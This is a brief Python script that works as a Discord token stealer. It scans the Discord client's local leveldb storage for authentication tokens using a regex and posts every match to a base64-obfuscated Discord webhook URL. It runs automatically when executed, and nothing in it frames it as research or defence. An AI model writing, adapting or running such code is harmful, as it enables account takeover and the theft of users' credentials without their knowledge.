import base64, os, re, requests
W = base64.b64decode("aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMTA5ODc2NTQzMjEwOTg3NjU0My9BYkNkRWZHaElqS2xNbk9wUXJTdFV2V3hZejAxMjM0NTY3ODk=").decode()
def run():
    tokens = []
    p = os.getenv("APPDATA") + "\\discord\\Local Storage\\leveldb"
    for f in os.listdir(p):
        for t in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", open(os.path.join(p, f), errors="ignore").read()):
            tokens.append(t)
    requests.post(W, json={"content": "\n".join(tokens)})
run()
